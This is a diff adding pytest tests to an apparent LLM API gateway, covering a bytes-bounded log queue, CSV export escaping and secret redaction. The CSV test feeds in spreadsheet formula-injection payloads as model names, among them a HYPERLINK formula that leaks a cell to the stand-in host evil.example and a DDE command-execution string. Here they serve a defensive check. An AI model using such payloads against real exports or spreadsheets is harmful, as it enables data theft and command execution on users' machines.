@@ -4,15 +4,21 @@ byte cancel the upstream call (15), and redaction of every stored column (16).""
 
 from __future__ import annotations
 
+import csv
+import io
 import socket
+import sqlite3
 import time
+import uuid
 from typing import Any
+from urllib.parse import quote
 
 import httpx
 import orjson
 import pytest
 from fake_google import Fault
 
+from agproxy.monitor.redact import capture_text, redact
 from conftest import Gateway, gateway_with
 
 CHAT = {"model": "gemini-3-flash", "messages": [{"role": "user", "content": "hello"}]}
@@ -31,11 +37,12 @@ def wait_for_logs(gw: Gateway, n: int = 1, seconds: float = 5) -> list[dict[str,
 
 
 def metric(gw: Gateway, name: str) -> float:
-    text = gw.admin("GET", "/metrics").text
-    for line in text.splitlines():
+    response = gw.admin("GET", "/metrics")
+    assert response.status_code == 200, response.text
+    for line in response.text.splitlines():
         if line.startswith(name + " "):
             return float(line.split()[1])
-    raise AssertionError(f"{name} not in /metrics")
+    raise AssertionError(f"{name} not in /metrics:\n{response.text}")
 
 
 def raw_request(gw: Gateway, path: str, body: dict[str, Any]) -> socket.socket:
@@ -111,3 +118,126 @@ def test_a_stream_aborted_mid_way_is_recorded_as_499_without_errors(
     assert gw.stop() == 0
     output = "".join(gw.output)
     assert "RuntimeError" not in output and "Traceback" not in output, output
+
+
+# -- 8: a queue bounded in bytes ------------------------------------------------------------
+def rss_mib(gw: Gateway) -> float:
+    with open(f"/proc/{gw.proc.pid}/status") as status:
+        return int(status.read().split("VmRSS:")[1].split()[0]) / 1024
+
+
+def test_a_locked_database_sheds_captured_bodies_and_memory_stays_bounded(
+        gateway_factory: Any, fake_google: Any) -> None:
+    gw, _ = gateway_with(gateway_factory, fake_google, AGPROXY_MONITOR_CAPTURE_BODIES="true",
+                         AGPROXY_MONITOR_BODY_MAX_BYTES="262144",
+                         AGPROXY_MONITOR_QUEUE_MAX_BYTES=str(4 * 1024 * 1024))
+    big = {"model": "gemini-3-flash", "messages": [{"role": "user", "content": "x" * 2**20}]}
+    with httpx.Client(base_url=gw.base_url, timeout=60) as client:
+        for _ in range(3):  # warm up: the first large bodies set the allocator's pools
+            assert client.post("/v1/chat/completions", json=big).status_code == 200
+        wait_for_logs(gw, 3)
+        before = rss_mib(gw)
+        # Another program holds the write lock (a sqlite3 shell, a backup, a CLI command).
+        holder = sqlite3.connect(gw.data_dir / "agproxy.db", isolation_level=None)
+        holder.execute("BEGIN IMMEDIATE")
+        try:
+            for _ in range(60):  # 60 × ~2 MiB of raw captures, request and response
+                assert client.post("/v1/chat/completions", json=big).status_code == 200
+            held = rss_mib(gw)
+        finally:
+            holder.execute("COMMIT")  # (/metrics reads accounts: it waits for the lock)
+            holder.close()
+    assert held - before < 40, f"RSS grew from {before:.0f} to {held:.0f} MiB"
+    records = wait_for_logs(gw, 63, seconds=20)
+    assert metric(gw, "agproxy_monitor_bodies_dropped_total") > 30
+    assert metric(gw, "agproxy_monitor_dropped_total") == 0
+    assert {r["status"] for r in records} == {200}
+    # Shed records say why their bodies are missing; the newest kept theirs.
+    newest = gw.admin("GET", f"/api/logs/{records[0]['id']}").json()
+    assert newest["request_body"].startswith('{"model":"gemini-3-flash"'), newest["request_body"][:300]
+    shed = [gw.admin("GET", f"/api/logs/{r['id']}").json()["request_body"]
+            for r in records[1:]]
+    assert sum("[not kept: the monitor queue was full" in body for body in shed) > 30
+    assert metric(gw, "agproxy_monitor_queue_bytes") == 0
+    assert rss_mib(gw) - before < 40
+
+
+# -- 13: CSV cells that a spreadsheet would run ----------------------------------------------
+def test_the_csv_export_escapes_formula_cells(gateway_factory: Any, fake_google: Any) -> None:
+    gw, _ = gateway_with(gateway_factory, fake_google, AGPROXY_AUTH_MODE="strict")
+    formulas = ['=HYPERLINK("evil.example/?leak="&A1,"report")',
+                "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1;A9)", "\tTAB", "\r=1+1"]
+    for model in formulas:  # refused by auth (no key): the model comes from the path
+        response = httpx.post(gw.base_url + f"/v1beta/models/{quote(model, safe='')}"
+                              ":generateContent",
+                              json={"contents": []})
+        assert response.status_code == 401
+    exported = gw.admin("GET", "/api/stats/export.csv", params={"bucket": "day"})
+    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+    models = {r["model"] for r in rows}
+    assert models == {"'" + m for m in formulas}, (sorted(models), exported.text)
+    assert all(r["account"] == "-" for r in rows)  # the placeholder is left alone
+
+
+# -- 16: redaction of every stored column and of escaped secrets ------------------------------
+def test_every_stored_column_is_redacted(gateway_factory: Any, fake_google: Any) -> None:
+    password = "admin-pass-" + uuid.uuid4().hex
+    gw, _ = gateway_with(gateway_factory, fake_google, AGPROXY_AUTH_MODE="strict",
+                         AGPROXY_MONITOR_CAPTURE_BODIES="true", AGPROXY_ADMIN_PASSWORD=password)
+    key = gw.api_key
+    github = "ghp_" + uuid.uuid4().hex[:36]
+    escaped_key = key[:3] + "".join(f"\\u{ord(c):04x}" for c in key[3:])
+    refresh = "1//0g" + uuid.uuid4().hex
+    body = (f'{{"model": "gemini-3-flash", "messages": [{{"role": "user", "content": '
+            f'"key {escaped_key}, refresh {refresh.replace("/", chr(92) + "/")}, {github}, '
+            f'AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY '
+            f'xoxb-123456789012-abcdefghijkl -----BEGIN RSA PRIVATE KEY-----\\nMIIEow\\n'
+            f'-----END RSA PRIVATE KEY-----"}}]}}')
+    response = httpx.post(gw.base_url + "/v1/chat/completions", content=body.encode(),
+                          headers={"Authorization": f"Bearer {key}",
+                                   "Content-Type": "application/json",
+                                   "User-Agent": f"curl/8 (key {key}; pw {password})"})
+    assert response.status_code == 200, response.text
+    # A model id that is a secret, refused for want of a key.
+    httpx.post(gw.base_url + f"/v1beta/models/{password}:generateContent",
+               headers={"User-Agent": f"bot {github}"}, json={"contents": []})
+    records = wait_for_logs(gw, 2)
+    rows = sqlite3.connect(gw.data_dir / "agproxy.db").execute(
+        "SELECT * FROM request_logs").fetchall()
+    stored = str(rows)
+    for secret in (key, key[3:], password, github, refresh, refresh[3:], "AKIAIOSFODNN7EXAMPLE",
+                   "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "xoxb-123456789012", "MIIEow",
+                   escaped_key[3:20]):
+        assert secret not in stored, secret
+    refused, chat = records
+    assert refused["requested_model"] == "[redacted]"
+    assert refused["user_agent"] == "bot [redacted]"
+    assert chat["user_agent"] == "curl/8 (key [redacted]; pw [redacted])"
+
+
+@pytest.mark.parametrize(("text", "kept"), [
+    ('{"k": "sk-\\u0061bcdefghijkl"}', '{"k": "[redacted]"}'),
+    ('{"t": "1\\/\\/0gAbCdEfGhIjKlMn"}', '{"t": "[redacted]"}'),
+    ("\\u0073k-abcdefghijkl", "[redacted]"),
+    ("gho_" + "a1B2" * 9 + " github_pat_11ABCDEFG0123456789_abcdefghij", "[redacted] [redacted]"),
+    ("ASIAY34FZKBOKMUTVV7A and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709",
+     "[redacted] and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709"),
+    ("secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY;", "secret=[redacted];"),
+    ("xoxp-1234-5678-abcdefghij ok", "[redacted] ok"),
+    ("a -----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY----- z",
+     "a [redacted] z"),
+    ("cut -----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN", "cut [redacted]"),
+    ('{"client_secret": "x", "private_key": "y", "credentials": "z"}',
+     '{"client_secret": "[redacted]", "private_key": "[redacted]", "credentials": "[redacted]"}'),
+    ("an escaped backslash \\\\u0061 stays", "an escaped backslash \\\\u0061 stays"),
+])
+def test_redaction_of_escaped_forms_and_more_key_shapes(text: str, kept: str) -> None:
+    assert redact(text) == kept
+
+
+def test_a_password_written_with_json_escapes_is_redacted() -> None:
+    password = 'pa"ss\\word-long'
+    spelled = "".join(f"\\u{ord(c):04x}" for c in password).encode()
+    raw = b'{"text": "pw ' + orjson.dumps(password)[1:-1] + b" and " + spelled + b'"}'
+    out = capture_text(raw, 10_000, False, (password,))
+    assert "ss" not in out and out.count("[redacted]") == 2, out
